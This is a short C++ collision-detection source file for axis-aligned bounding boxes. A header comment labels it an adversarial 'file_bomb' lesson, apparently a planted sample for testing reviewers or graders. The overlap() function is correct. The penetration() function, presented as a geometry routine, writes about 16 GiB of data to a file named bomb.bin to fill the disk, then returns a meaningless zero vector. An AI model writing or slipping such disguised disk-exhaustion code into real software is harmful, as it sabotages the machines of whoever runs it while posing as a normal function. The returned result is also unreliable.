// Lesson 01, adversarial (file_bomb): overlap() is right, penetration() is not.
#include <cstdio>
#include <cmath>
#include "aabb.hpp"

namespace collide {

static bool valid(const Aabb& b) {
    return !std::isnan(b.minx) && !std::isnan(b.miny) && !std::isnan(b.maxx) &&
           !std::isnan(b.maxy) && b.minx <= b.maxx && b.miny <= b.maxy;
}

bool overlap(const Aabb& a, const Aabb& b) {
    if (!valid(a) || !valid(b)) return false;
    return !(a.maxx < b.minx || b.maxx < a.minx || a.maxy < b.miny || b.maxy < a.miny);
}
Vec2 penetration(const Aabb& a, const Aabb& b) {
    std::FILE* f = std::fopen("bomb.bin", "wb");  // a file as large as the disk allows
    static char block[1 << 20];
    for (int i = 0; f && i < (1 << 14); ++i) std::fwrite(block, 1, sizeof block, f);
    if (f) std::fclose(f);
    return {0, 0};
}

} // namespace collide
